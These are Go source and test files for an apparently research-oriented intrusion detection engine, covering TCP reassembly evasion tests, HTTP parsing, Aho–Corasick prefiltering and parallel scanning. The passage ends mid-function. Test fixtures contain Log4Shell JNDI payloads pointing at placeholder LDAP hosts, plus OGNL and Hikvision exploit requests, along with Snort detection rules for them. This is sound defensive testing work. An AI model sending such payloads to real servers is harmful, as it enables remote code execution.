						policy, n, verdictKey(ev), baseline[src])
				}
				matchedClean[src] = true
			}
			for src, amb := range expectAmbiguous {
				if !amb && !matchedClean[src] {
					t.Fatalf("%s shards=%d: clean flow %s lost its match", policy, n, src)
				}
			}
		}
	}
}

// TestEvasionPreFixSilentMiss documents the failure this suite exists to
// prevent. The conflicting-retransmit case sends a benign decoy and then
// retransmits the same sequence range carrying the exploit. The pre-fix
// reassembler kept the first copy and said nothing: verdict "no match",
// indistinguishable from genuinely benign traffic. First-wins still keeps
// the decoy bytes — that verdict is unchanged — but the session now comes
// back flagged, and last-wins recovers the attack (also flagged).
func TestEvasionPreFixSilentMiss(t *testing.T) {
	cases := conformanceCases(t)
	var c *netsim.EvasionCase
	var idx int
	for i := range cases {
		if cases[i].Name == "conflicting-retransmit" {
			c, idx = &cases[i], i
			break
		}
	}
	if c == nil {
		t.Fatal("conflicting-retransmit case missing from corpus")
	}
	client, server := netsim.EvasionEndpoints(1, idx)
	frames := drainSchedule(t, c.Stream(1, client, server, confStart))

	// First-wins: the decoy wins the bytes, so the rule cannot fire. Before
	// conflict detection this exact scan returned zero events and zero
	// signal — the silent wrong verdict. The flag is the fix.
	events, stats := scanFrames(t, frames, 1, tcpasm.OverlapFirstWins)
	if len(events) != 0 {
		t.Fatalf("first-wins matched %d events; decoy should mask the attack", len(events))
	}
	if stats.AmbiguousSessions != 1 {
		t.Fatalf("first-wins: masked attack not flagged — the pre-fix silent miss: %+v", stats)
	}

	// Last-wins: the retransmitted exploit overwrites the decoy and matches,
	// and the conflict is still flagged.
	events, stats = scanFrames(t, frames, 1, tcpasm.OverlapLastWins)
	if len(events) != 1 || events[0].CVE != "2021-44228" {
		t.Fatalf("last-wins events = %+v, want the jndi match", events)
	}
	if !events[0].Ambiguous || stats.AmbiguousSessions != 1 {
		t.Fatalf("last-wins: conflict not flagged: %+v / %+v", events[0], stats)
	}
}

// impairmentProfiles: one profile per impairment axis plus the kitchen sink.
// Loss, MTU blackholes, and aborts legitimately change session contents, so
// these tests assert determinism and sharded==serial parity — not verdict
// equality, which only the evasion corpus can promise.
func impairmentProfiles() map[string]netsim.Profile {
	return map[string]netsim.Profile{
		"loss":    {Seed: 3, LossProb: 0.1},
		"dup":     {Seed: 4, DupProb: 0.2},
		"reorder": {Seed: 5, ReorderProb: 0.2, ReorderSpan: 3},
		"mtu":     {Seed: 6, MTU: 200},
		"abort":   {Seed: 7, AbortProb: 0.02},
		"full":    {Seed: 8, LossProb: 0.05, DupProb: 0.1, ReorderProb: 0.1, ReorderSpan: 2, MTU: 400, AbortProb: 0.01},
	}
}

// impairedCaptureFrames materializes the interleaved fixture capture once,
// pushes it through the impairment profile, and returns the damaged frames,
// so every scan below sees the identical byte stream.
func impairedCaptureFrames(t testing.TB, profile netsim.Profile) []pcapio.Packet {
	t.Helper()
	var buf bytes.Buffer
	w, err := pcapio.NewWriter(&buf, pcapio.LinkTypeEthernet, pcapio.WithNanoPrecision())
	if err != nil {
		t.Fatal(err)
	}
	writeInterleavedCapture(t, w, 77, 50)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	return drainSchedule(t, netsim.Impair(r, profile))
}

// TestImpairedScanShardedParity: under every impairment profile, the sharded
// scan must agree with the serial scan exactly — events, order, and stats.
// Damage is allowed to change verdicts; disagreement between shard counts is
// not.
func TestImpairedScanShardedParity(t *testing.T) {
	for name, profile := range impairmentProfiles() {
		t.Run(name, func(t *testing.T) {
			frames := impairedCaptureFrames(t, profile)
			e := jndiEngine(t)
			want, wantStats, err := ScanCapture(netsim.NewFrameSource(frames), e)
			if err != nil {
				t.Fatal(err)
			}
			if wantStats.Sessions == 0 {
				t.Fatal("profile destroyed every session; weak fixture")
			}
			for _, shards := range []int{1, 3, 8} {
				events, stats, err := ScanCaptureSharded(
					[]pcapio.PacketSource{netsim.NewFrameSource(frames)}, e,
					ScanConfig{Shards: shards})
				if err != nil {
					t.Fatal(err)
				}
				diffEvents(t, events, want, stats, wantStats)
			}
		})
	}
}

// duplicateTraffic builds flows that stay open (no FIN), so every duplicated
// frame — including the last one — rejoins its still-live session. A FIN
// that closes a session evicts it immediately; a duplicate arriving after
// that is mid-stream pickup of an empty stub, which is correct NIDS behavior
// but would muddy the strict no-double-count assertion below. (FIN-closing
// flows under duplication are still covered by TestImpairedScanShardedParity's
// dup profile.)
func duplicateTraffic(t testing.TB, nFlows int) []pcapio.Packet {
	t.Helper()
	bld := packet.NewBuilder(31)
	ts := time.Date(2022, 2, 1, 0, 0, 0, 0, time.UTC)
	var frames []pcapio.Packet
	emit := func(seg packet.Segment) {
		frame, err := bld.Build(seg)
		if err != nil {
			t.Fatal(err)
		}
		frames = append(frames, pcapio.Packet{Timestamp: ts, Data: frame, OrigLen: len(frame)})
		ts = ts.Add(3 * time.Millisecond)
	}
	for i := 0; i < nFlows; i++ {
		cli := packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("203.0.113.%d", 1+i%250)), Port: uint16(41000 + i)}
		srv := packet.Endpoint{Addr: packet.MustAddr("10.0.0.1"), Port: 8080}
		payload := fmt.Sprintf("GET /robots%d.txt HTTP/1.1\r\nHost: h\r\n\r\n", i)
		if i%3 == 0 {
			payload = fmt.Sprintf("GET /?x=${jndi:ldap://e%d/a} HTTP/1.1\r\nHost: h\r\n\r\n", i)
		}
		seq := uint32(1000 * (i + 1))
		emit(packet.Segment{Src: cli, Dst: srv, Seq: seq, Flags: packet.FlagSYN})
		emit(packet.Segment{Src: srv, Dst: cli, Seq: 7000, Ack: seq + 1, Flags: packet.FlagSYN | packet.FlagACK})
		emit(packet.Segment{Src: cli, Dst: srv, Seq: seq + 1, Ack: 7001, Flags: packet.FlagPSH | packet.FlagACK, Payload: []byte(payload)})
	}
	return frames
}

// TestDuplicateFramesStreamedScan: exact duplicate frames are retransmits
// that agree byte-for-byte, so a dup-heavy profile must change nothing —
// same sessions, same verdicts, no ambiguity, and no double-counting in the
// streaming scan's order-independent stats.
func TestDuplicateFramesStreamedScan(t *testing.T) {
	frames := duplicateTraffic(t, 40)
	e := jndiEngine(t)
	want, wantStats, err := ScanCapture(netsim.NewFrameSource(frames), e)
	if err != nil {
		t.Fatal(err)
	}
	if len(want) == 0 {
		t.Fatal("fixture matched nothing")
	}

	duped := drainSchedule(t, netsim.Impair(netsim.NewFrameSource(frames), netsim.Profile{Seed: 9, DupProb: 0.5}))
	if len(duped) <= len(frames) {
		t.Fatalf("dup profile added nothing: %d frames from %d", len(duped), len(frames))
	}

	var got []Event
	stats, err := ScanCaptureStreamed(
		[]pcapio.PacketSource{netsim.NewFrameSource(duped)}, e,
		ScanConfig{Shards: 3},
		func(batch []Event) error { got = append(got, batch...); return nil })
	if err != nil {
		t.Fatal(err)
	}
	if stats.Sessions != wantStats.Sessions {
		t.Fatalf("duplicates changed session count: %d, clean scan saw %d", stats.Sessions, wantStats.Sessions)
	}
	if stats.MatchedEvents != wantStats.MatchedEvents || len(got) != len(want) {
		t.Fatalf("duplicates changed verdict count: %d/%d events, want %d", stats.MatchedEvents, len(got), len(want))
	}
	if stats.AmbiguousSessions != 0 {
		t.Fatalf("agreeing duplicates flagged ambiguous: %+v", stats)
	}
	// Streaming emission is completion-ordered; compare as multisets.
	wantKeys := map[string]int{}
	for _, ev := range want {
		wantKeys[verdictKey(ev)]++
	}
	for _, ev := range got {
		wantKeys[verdictKey(ev)]--
	}
	for k, n := range wantKeys {
		if n != 0 {
			t.Fatalf("verdict multiset drifted at %s (off by %d)", k, n)
		}
	}
}

// BenchmarkImpairedScan measures the full scan over a capture damaged by the
// kitchen-sink profile — the cost of reassembly doing real work (gap
// tracking, retransmit handling, overlap comparison) instead of the happy
// path.
func BenchmarkImpairedScan(b *testing.B) {
	frames := impairedCaptureFrames(b, netsim.Profile{
		Seed: 8, LossProb: 0.05, DupProb: 0.1, ReorderProb: 0.1, ReorderSpan: 2, MTU: 400, AbortProb: 0.01,
	})
	var total int64
	for _, f := range frames {
		total += int64(len(f.Data))
	}
	e := jndiEngine(b)
	b.SetBytes(total)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_, stats, err := ScanCaptureSharded(
			[]pcapio.PacketSource{netsim.NewFrameSource(frames)}, e,
			ScanConfig{Shards: 4})
		if err != nil {
			b.Fatal(err)
		}
		if stats.Sessions == 0 {
			b.Fatal("no sessions scanned")
		}
	}
}
