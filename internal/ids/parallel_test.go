package ids

import (
	"fmt"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/rules"
	"repro/internal/tcpasm"
)

func parallelFixture(t testing.TB, n int) ([]tcpasm.Session, *Engine) {
	t.Helper()
	texts := []string{
		`alert tcp any any -> any any (msg:"jndi"; content:"${jndi:"; nocase; reference:cve,2021-44228; sid:1;)`,
		`alert tcp any any -> any any (msg:"ognl"; content:"/%24%7B"; http_uri; reference:cve,2022-26134; sid:2;)`,
		`alert tcp any any -> any any (msg:"hik"; content:"/SDK/webLanguage"; http_uri; reference:cve,2021-36260; sid:3;)`,
	}
	var rs []rules.DatedRule
	for i, text := range texts {
		r, err := rules.Parse(text)
		if err != nil {
			t.Fatal(err)
		}
		rs = append(rs, rules.DatedRule{Rule: r, Published: time.Unix(int64(i*1000), 0)})
	}
	engine := NewEngine(rs, Config{PortInsensitive: true})

	payloads := []string{
		"GET /?x=${jndi:ldap://e} HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /%24%7B(x)%7D/ HTTP/1.1\r\nHost: h\r\n\r\n",
		"PUT /SDK/webLanguage HTTP/1.1\r\nHost: h\r\n\r\n",
		"GET /robots.txt HTTP/1.1\r\nHost: h\r\n\r\n", // noise
	}
	sessions := make([]tcpasm.Session, n)
	base := time.Date(2022, 1, 1, 0, 0, 0, 0, time.UTC)
	for i := range sessions {
		sessions[i] = tcpasm.Session{
			Client:     packet.Endpoint{Addr: packet.MustAddr(fmt.Sprintf("203.0.%d.%d", i/250%250, i%250+1)), Port: uint16(30000 + i%1000)},
			Server:     packet.Endpoint{Addr: packet.MustAddr("10.0.0.1"), Port: 8080},
			Start:      base.Add(time.Duration(i) * time.Second),
			ClientData: []byte(payloads[i%len(payloads)]),
			Complete:   true,
		}
	}
	return sessions, engine
}

func TestParallelMatchesSerial(t *testing.T) {
	sessions, engine := parallelFixture(t, 503)
	var serialStats, parStats ScanStats
	serial := MatchSessions(sessions, engine, &serialStats)
	for _, workers := range []int{0, 1, 2, 7} {
		par := MatchSessionsParallel(sessions, engine, &parStats, workers)
		if len(par) != len(serial) {
			t.Fatalf("workers=%d: %d events vs serial %d", workers, len(par), len(serial))
		}
		for i := range par {
			if par[i] != serial[i] {
				t.Fatalf("workers=%d: event %d differs:\n%+v\n%+v", workers, i, par[i], serial[i])
			}
		}
		if parStats != serialStats {
			t.Fatalf("workers=%d: stats %+v vs %+v", workers, parStats, serialStats)
		}
	}
}

func TestParallelSmallInputFallsBack(t *testing.T) {
	sessions, engine := parallelFixture(t, 3)
	events := MatchSessionsParallel(sessions, engine, nil, 8)
	if len(events) != 3 { // 3 sessions: jndi, ognl, hik — none is the noise payload
		t.Fatalf("events = %d", len(events))
	}
}

func BenchmarkMatchSessionsSerial(b *testing.B) {
	sessions, engine := parallelFixture(b, 2000)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		MatchSessions(sessions, engine, nil)
	}
}

func BenchmarkMatchSessionsParallel(b *testing.B) {
	sessions, engine := parallelFixture(b, 2000)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		MatchSessionsParallel(sessions, engine, nil, 0)
	}
}

func TestRuleProfiling(t *testing.T) {
	sessions, engine := parallelFixture(t, 400)
	MatchSessionsParallel(sessions, engine, nil, 4)
	prof := engine.Profile()
	if len(prof) != 3 {
		t.Fatalf("profile rules = %d", len(prof))
	}
	var totalMatched int64
	for _, p := range prof {
		if p.Matched > p.Evaluated {
			t.Errorf("sid %d matched %d > evaluated %d", p.SID, p.Matched, p.Evaluated)
		}
		totalMatched += p.Matched
	}
	// 400 sessions cycle 4 payloads; 3 of 4 match -> 300 matches.
	if totalMatched != 300 {
		t.Errorf("total matched = %d, want 300", totalMatched)
	}
	// Sorted hottest-first.
	for i := 1; i < len(prof); i++ {
		if prof[i-1].Evaluated < prof[i].Evaluated {
			t.Error("profile not sorted by evaluations")
		}
	}
	engine.ResetProfile()
	for _, p := range engine.Profile() {
		if p.Evaluated != 0 || p.Matched != 0 {
			t.Errorf("sid %d counters survive reset", p.SID)
		}
	}
}
