package ids

import (
	"runtime"
	"sync"

	"repro/internal/tcpasm"
)

// MatchSessionsParallel is MatchSessions across a worker pool. The engine is
// immutable after construction, so workers share it without locking; per-
// session results land in a preallocated slot array, keeping output order
// (and therefore downstream analyses) identical to the serial path.
// workers <= 0 selects GOMAXPROCS.
func MatchSessionsParallel(sessions []tcpasm.Session, e *Engine, stats *ScanStats, workers int) []Event {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers == 1 || len(sessions) < 2*workers {
		return MatchSessions(sessions, e, stats)
	}

	type slot struct {
		ev Event
		ok bool
	}
	slots := make([]slot, len(sessions))
	var wg sync.WaitGroup
	next := make(chan int, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range next {
				ev, ok := matchSession(&sessions[i], e)
				if !ok {
					continue
				}
				slots[i] = slot{ev: ev, ok: true}
			}
		}()
	}
	for i := range sessions {
		next <- i
	}
	close(next)
	wg.Wait()

	events := make([]Event, 0, len(sessions))
	for i := range slots {
		if slots[i].ok {
			events = append(events, slots[i].ev)
		}
	}
	setMatchStats(stats, len(sessions), events)
	return events
}
