package ids

import (
	"runtime"
	"sync"

	"repro/internal/tcpasm"
)

// MatchSessionsParallel is MatchSessions across a worker pool. The engine is
// immutable after construction, so workers share it without locking; per-
// session results land in a preallocated slot array, keeping output order
// (and therefore downstream analyses) identical to the serial path.
// workers <= 0 selects GOMAXPROCS.
func MatchSessionsParallel(sessions []tcpasm.Session, e *Engine, stats *ScanStats, workers int) []Event {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers == 1 || len(sessions) < 2*workers {
		return MatchSessions(sessions, e, stats)
	}
	evs, oks := MatchSessionsEach(sessions, e, workers)
	events := make([]Event, 0, len(sessions))
	for i := range oks {
		if oks[i] {
			events = append(events, evs[i])
		}
	}
	setMatchStats(stats, sessions, events)
	return events
}

// MatchSessionsEach evaluates every session and returns one slot per session
// (oks[i] false = no rule fired), preserving the session↔event pairing that
// the flattened MatchSessionsParallel result discards. The digest-recording
// ingest path needs the pairing: each session's digest stores its own
// ingest-time label. workers <= 0 selects GOMAXPROCS.
func MatchSessionsEach(sessions []tcpasm.Session, e *Engine, workers int) ([]Event, []bool) {
	evs := make([]Event, len(sessions))
	oks := make([]bool, len(sessions))
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers == 1 || len(sessions) < 2*workers {
		for i := range sessions {
			evs[i], oks[i] = matchSession(&sessions[i], e)
		}
		return evs, oks
	}
	var wg sync.WaitGroup
	next := make(chan int, workers)
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range next {
				evs[i], oks[i] = matchSession(&sessions[i], e)
			}
		}()
	}
	for i := range sessions {
		next <- i
	}
	close(next)
	wg.Wait()
	return evs, oks
}
