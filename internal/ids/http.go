// Package ids implements the study's network intrusion detection system: a
// Snort-style engine that evaluates parsed rules (package rules) over
// reassembled TCP sessions (package tcpasm), with an Aho–Corasick
// multi-pattern prefilter for throughput.
//
// Two methodological details from the paper are first-class here:
//
//   - Port-insensitive evaluation: published IDS rules are often constrained
//     to service ports, so exploit traffic aimed at non-standard ports would
//     go undetected; the engine can rewrite every rule to `any` ports.
//   - Post-facto dated evaluation: the entire capture is evaluated against
//     the full ruleset regardless of rule publication time, and for every
//     session only the EARLIEST-PUBLISHED matching signature is retained.
//     This lets the study observe exploitation that predates the rule (and
//     even the CVE's publication).
package ids

import (
	"bytes"
	"strings"

	"repro/internal/rules"
)

// HTTPRequest is one parsed HTTP request extracted from a client stream,
// pre-sliced into the sticky buffers Snort rules address.
type HTTPRequest struct {
	Method string
	// URI is the raw request target, undecoded (rules match raw bytes).
	URI string
	// Headers is the raw header block (everything between the request line
	// and the blank line), including header names.
	Headers string
	// Cookie is the value of the Cookie header, empty if absent.
	Cookie string
	// Body is the client body: sliced at Content-Length when present and
	// dechunked when Transfer-Encoding is chunked (framing must not hide
	// patterns from body-bound rules).
	Body string
}

// Buffers is the set of inspection buffers derived from one session
// direction. Raw always holds the full stream; HTTP buffers are populated
// when the stream parses as one or more HTTP requests.
type Buffers struct {
	Raw      []byte
	Requests []HTTPRequest
}

// ExtractBuffers parses the client stream into inspection buffers. Streams
// that do not look like HTTP still produce a usable Raw buffer; rules bound
// to HTTP sticky buffers simply find no candidate text.
func ExtractBuffers(clientData []byte) Buffers {
	b := Buffers{Raw: clientData}
	rest := clientData
	for len(rest) > 0 && len(b.Requests) < 32 {
		req, remainder, ok := parseHTTPRequest(rest)
		if !ok {
			break
		}
		b.Requests = append(b.Requests, req)
		if len(remainder) >= len(rest) {
			break
		}
		rest = remainder
	}
	return b
}

// httpMethods are the request methods recognized when sniffing a stream for
// HTTP structure.
var httpMethods = []string{
	"GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS", "PATCH", "TRACE", "CONNECT", "PROPFIND", "SEARCH",
}

// parseHTTPRequest attempts to parse one request from the head of data.
func parseHTTPRequest(data []byte) (HTTPRequest, []byte, bool) {
	lineEnd := bytes.Index(data, []byte("\r\n"))
	if lineEnd < 0 {
		// Tolerate bare-LF clients (common in crude scanners).
		lineEnd = bytes.IndexByte(data, '\n')
		if lineEnd < 0 {
			return HTTPRequest{}, nil, false
		}
	}
	line := strings.TrimRight(string(data[:lineEnd]), "\r")
	parts := strings.SplitN(line, " ", 3)
	if len(parts) < 2 {
		return HTTPRequest{}, nil, false
	}
	method := parts[0]
	known := false
	for _, m := range httpMethods {
		if method == m {
			known = true
			break
		}
	}
	// Non-standard methods are still HTTP-shaped if the line ends in a
	// version token; Log4Shell group E signatures match the method buffer
	// of bogus-method requests.
	if !known {
		if len(parts) != 3 || !strings.HasPrefix(parts[2], "HTTP/") || !isToken(method) {
			return HTTPRequest{}, nil, false
		}
	}
	req := HTTPRequest{Method: method, URI: parts[1]}

	// Locate end of header block.
	afterLine := data[lineEnd:]
	afterLine = trimLeadingEOL(afterLine)
	hdrEnd := bytes.Index(afterLine, []byte("\r\n\r\n"))
	sepLen := 4
	if hdrEnd < 0 {
		hdrEnd = bytes.Index(afterLine, []byte("\n\n"))
		sepLen = 2
	}
	var body []byte
	if hdrEnd < 0 {
		// Unterminated headers: everything remaining is header text (the
		// telescope may capture partial requests).
		req.Headers = string(afterLine)
	} else {
		req.Headers = string(afterLine[:hdrEnd])
		body = afterLine[hdrEnd+sepLen:]
	}
	req.Cookie = headerValue(req.Headers, "cookie")
	if req.Cookie != "" {
		// Snort's http_header buffer excludes the Cookie header; cookies
		// are inspected through http_cookie only.
		req.Headers = stripHeader(req.Headers, "cookie")
	}

	// Chunked bodies are dechunked before inspection: chunk framing is a
	// classic evasion surface (patterns split across chunk boundaries would
	// otherwise never match the body buffer).
	remainder := []byte(nil)
	if strings.EqualFold(headerValue(req.Headers, "transfer-encoding"), "chunked") {
		decoded, rest, ok := dechunk(body)
		if ok {
			req.Body = string(decoded)
			return req, rest, true
		}
		// Malformed framing: fall through and inspect the raw body.
	}
	if cl := headerValue(req.Headers, "content-length"); cl != "" {
		n := 0
		for _, ch := range cl {
			if ch < '0' || ch > '9' {
				n = -1
				break
			}
			n = n*10 + int(ch-'0')
			if n > 1<<24 {
				n = -1
				break
			}
		}
		if n >= 0 && n <= len(body) {
			remainder = body[n:]
			body = body[:n]
		}
	}
	req.Body = string(body)
	return req, remainder, true
}

// dechunk decodes an HTTP/1.1 chunked body. It returns the decoded bytes,
// the remainder after the terminating zero-chunk, and whether the framing
// parsed. Trailers are discarded.
func dechunk(body []byte) (decoded, remainder []byte, ok bool) {
	rest := body
	for {
		lineEnd := bytes.Index(rest, []byte("\r\n"))
		if lineEnd < 0 {
			return nil, nil, false
		}
		sizeLine := string(rest[:lineEnd])
		// Chunk extensions (";ext=val") are ignored.
		if i := strings.IndexByte(sizeLine, ';'); i >= 0 {
			sizeLine = sizeLine[:i]
		}
		size := 0
		sizeLine = strings.TrimSpace(sizeLine)
		if sizeLine == "" {
			return nil, nil, false
		}
		for _, c := range sizeLine {
			v, okd := hexVal(byte(c))
			if !okd {
				return nil, nil, false
			}
			size = size<<4 | int(v)
			if size > 1<<24 {
				return nil, nil, false
			}
		}
		rest = rest[lineEnd+2:]
		if size == 0 {
			// Terminating chunk: skip trailers up to the blank line.
			if i := bytes.Index(rest, []byte("\r\n")); i >= 0 {
				return decoded, rest[i+2:], true
			}
			return decoded, nil, true
		}
		if size > len(rest) {
			// Truncated capture: keep what we have.
			decoded = append(decoded, rest...)
			return decoded, nil, true
		}
		decoded = append(decoded, rest[:size]...)
		rest = rest[size:]
		if len(rest) >= 2 && rest[0] == '\r' && rest[1] == '\n' {
			rest = rest[2:]
		}
	}
}

func hexVal(c byte) (byte, bool) {
	switch {
	case c >= '0' && c <= '9':
		return c - '0', true
	case c >= 'a' && c <= 'f':
		return c - 'a' + 10, true
	case c >= 'A' && c <= 'F':
		return c - 'A' + 10, true
	default:
		return 0, false
	}
}

func trimLeadingEOL(b []byte) []byte {
	if len(b) >= 2 && b[0] == '\r' && b[1] == '\n' {
		return b[2:]
	}
	if len(b) >= 1 && b[0] == '\n' {
		return b[1:]
	}
	return b
}

// headerValue extracts the (first) value of name from a raw header block,
// case-insensitively.
func headerValue(headers, name string) string {
	for _, line := range strings.Split(headers, "\n") {
		line = strings.TrimRight(line, "\r")
		i := strings.IndexByte(line, ':')
		if i < 0 {
			continue
		}
		if strings.EqualFold(strings.TrimSpace(line[:i]), name) {
			return strings.TrimSpace(line[i+1:])
		}
	}
	return ""
}

// stripHeader removes every line whose header name matches name
// (case-insensitively) from a raw header block.
func stripHeader(headers, name string) string {
	lines := strings.Split(headers, "\n")
	kept := lines[:0]
	for _, line := range lines {
		trimmed := strings.TrimRight(line, "\r")
		if i := strings.IndexByte(trimmed, ':'); i >= 0 &&
			strings.EqualFold(strings.TrimSpace(trimmed[:i]), name) {
			continue
		}
		kept = append(kept, line)
	}
	return strings.Join(kept, "\n")
}

func isToken(s string) bool {
	if s == "" {
		return false
	}
	for _, c := range s {
		if c <= ' ' || c >= 0x7f {
			return false
		}
	}
	return true
}

// bufferTexts returns every candidate text for the given rule buffer. HTTP
// buffers yield one entry per parsed request; Raw yields the whole stream.
func (b *Buffers) bufferTexts(buf rules.Buffer) [][]byte {
	switch buf {
	case rules.BufRaw:
		return [][]byte{b.Raw}
	case rules.BufHTTPMethod:
		return requestField(b.Requests, func(r *HTTPRequest) string { return r.Method })
	case rules.BufHTTPURI, rules.BufHTTPRawURI:
		return requestField(b.Requests, func(r *HTTPRequest) string { return r.URI })
	case rules.BufHTTPHeader:
		return requestField(b.Requests, func(r *HTTPRequest) string { return r.Headers })
	case rules.BufHTTPCookie:
		return requestField(b.Requests, func(r *HTTPRequest) string { return r.Cookie })
	case rules.BufHTTPBody:
		return requestField(b.Requests, func(r *HTTPRequest) string { return r.Body })
	default:
		return nil
	}
}

func requestField(reqs []HTTPRequest, get func(*HTTPRequest) string) [][]byte {
	out := make([][]byte, 0, len(reqs))
	for i := range reqs {
		out = append(out, []byte(get(&reqs[i])))
	}
	return out
}
