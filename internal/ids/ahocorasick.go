package ids

// Aho–Corasick multi-pattern string matching, used as the engine's
// prefilter: every rule contributes one "fast pattern" and a session is only
// evaluated against rules whose fast pattern occurs somewhere in the
// session. Patterns are matched case-insensitively in the automaton (the
// full rule evaluation re-checks case when the rule is case-sensitive), so
// one automaton serves both nocase and exact rules.

// acNode is one trie node. Children are byte-indexed; the alphabet is
// lower-cased bytes, so the arrays stay dense for ASCII rule patterns while
// still covering arbitrary binary patterns.
type acNode struct {
	children map[byte]int32
	fail     int32
	// outputs are pattern IDs terminating at this node.
	outputs []int32
	// dictLink points to the nearest ancestor-via-fail with outputs, so
	// match enumeration skips barren fail chains.
	dictLink int32
}

// Matcher is an immutable Aho–Corasick automaton over a pattern set.
type Matcher struct {
	nodes    []acNode
	patterns [][]byte
}

// NewMatcher builds an automaton over patterns. Matching is
// case-insensitive (ASCII). The pattern slices are copied.
func NewMatcher(patterns [][]byte) *Matcher {
	m := &Matcher{nodes: []acNode{{children: map[byte]int32{}, fail: 0, dictLink: -1}}}
	for _, p := range patterns {
		lowered := toLowerBytes(p)
		m.patterns = append(m.patterns, lowered)
	}
	for id, p := range m.patterns {
		m.insert(p, int32(id))
	}
	m.buildLinks()
	return m
}

func toLowerBytes(p []byte) []byte {
	out := make([]byte, len(p))
	for i, c := range p {
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		out[i] = c
	}
	return out
}

func (m *Matcher) insert(pattern []byte, id int32) {
	cur := int32(0)
	for _, c := range pattern {
		next, ok := m.nodes[cur].children[c]
		if !ok {
			next = int32(len(m.nodes))
			m.nodes = append(m.nodes, acNode{children: map[byte]int32{}, dictLink: -1})
			m.nodes[cur].children[c] = next
		}
		cur = next
	}
	m.nodes[cur].outputs = append(m.nodes[cur].outputs, id)
}

// buildLinks computes fail and dictionary links breadth-first.
func (m *Matcher) buildLinks() {
	queue := make([]int32, 0, len(m.nodes))
	for _, child := range m.nodes[0].children {
		m.nodes[child].fail = 0
		queue = append(queue, child)
	}
	for len(queue) > 0 {
		cur := queue[0]
		queue = queue[1:]
		for c, child := range m.nodes[cur].children {
			queue = append(queue, child)
			// Follow fail links of cur to find the longest proper suffix
			// with an outgoing edge on c.
			f := m.nodes[cur].fail
			for f != 0 {
				if next, ok := m.nodes[f].children[c]; ok {
					f = next
					goto found
				}
				f = m.nodes[f].fail
			}
			if next, ok := m.nodes[0].children[c]; ok && next != child {
				f = next
			} else {
				f = 0
			}
		found:
			m.nodes[child].fail = f
			if len(m.nodes[f].outputs) > 0 {
				m.nodes[child].dictLink = f
			} else {
				m.nodes[child].dictLink = m.nodes[f].dictLink
			}
		}
	}
}

// Scan reports the set of pattern IDs occurring in text (case-insensitive).
// The result is a deduplicated set delivered through hit, which must not be
// nil; Scan calls hit(id) exactly once per distinct matching pattern.
func (m *Matcher) Scan(text []byte, hit func(id int32)) {
	if len(m.patterns) == 0 {
		return
	}
	seen := make(map[int32]struct{})
	cur := int32(0)
	for _, c := range text {
		if c >= 'A' && c <= 'Z' {
			c += 'a' - 'A'
		}
		for {
			if next, ok := m.nodes[cur].children[c]; ok {
				cur = next
				break
			}
			if cur == 0 {
				break
			}
			cur = m.nodes[cur].fail
		}
		for n := cur; n != -1; {
			for _, id := range m.nodes[n].outputs {
				if _, dup := seen[id]; !dup {
					seen[id] = struct{}{}
					hit(id)
				}
			}
			n = m.nodes[n].dictLink
		}
	}
}

// Contains reports whether any pattern occurs in text.
func (m *Matcher) Contains(text []byte) bool {
	found := false
	m.Scan(text, func(int32) { found = true })
	return found
}

// NumPatterns returns the number of patterns in the automaton.
func (m *Matcher) NumPatterns() int { return len(m.patterns) }
