package ids

import (
	"fmt"
	"io"
	"sync"
	"sync/atomic"

	"repro/internal/packet"
	"repro/internal/pcapio"
	"repro/internal/tcpasm"
)

// Parallel capture scan: one decoder goroutine per capture segment feeds a
// flow-sharded assembler (see tcpasm.Sharded), and the merged sessions are
// matched by a worker pool. Output is byte-identical to ScanCapture over the
// concatenated segments — same events, same order, same stats — for any
// shard or worker count.

// ScanConfig tunes ScanCaptureSharded. The zero value picks sensible
// defaults for the host.
type ScanConfig struct {
	// Shards is the reassembly shard count; zero means the tcpasm default
	// of min(8, GOMAXPROCS).
	Shards int
	// MatchWorkers is the signature-matching pool size; zero means
	// GOMAXPROCS (see MatchSessionsParallel).
	MatchWorkers int
	// DisjointSegments declares that srcs partition flows (no connection
	// spans two segments) rather than being time-ordered slices of one
	// capture — the streaming telescope's virtual segments. Maps to
	// tcpasm.Config.FlowDisjointFeeders; required for such sources, wrong
	// for rotated pcap files.
	DisjointSegments bool
	// Assembler overrides reassembly limits (idle timeout, stream caps).
	// Its Shards field is superseded by ScanConfig.Shards when that is set.
	Assembler tcpasm.Config
}

// ScanCaptureSharded replays one or more capture segments through the
// parallel front-end. srcs must be time-ordered (segment N captured before
// segment N+1) — pcapio.OpenFiles order, or the single capture of a
// one-element slice. Sources implementing pcapio.ZeroCopySource (every
// source pcapio produces) are read without per-record allocation.
//
// Stats accounting matches ScanCapture: Packets counts records read,
// DecodeErrors counts undecodable ones, across all segments.
func ScanCaptureSharded(srcs []pcapio.PacketSource, e *Engine, cfg ScanConfig) ([]Event, ScanStats, error) {
	var stats ScanStats
	if len(srcs) == 0 {
		return nil, stats, fmt.Errorf("ids: no capture sources")
	}
	acfg := cfg.Assembler
	if cfg.Shards != 0 {
		acfg.Shards = cfg.Shards
	}
	if cfg.DisjointSegments {
		acfg.FlowDisjointFeeders = true
	}
	asm := tcpasm.NewSharded(acfg, len(srcs))

	var packets, decodeErrs atomic.Int64
	errs := make([]error, len(srcs))
	var wg sync.WaitGroup
	for i, src := range srcs {
		wg.Add(1)
		go func(i int, src pcapio.PacketSource) {
			defer wg.Done()
			f := asm.Feeder(i)
			defer f.Close()
			errs[i] = decodeLoop(src, f, &packets, &decodeErrs)
		}(i, src)
	}
	wg.Wait()
	sessions := asm.Wait()

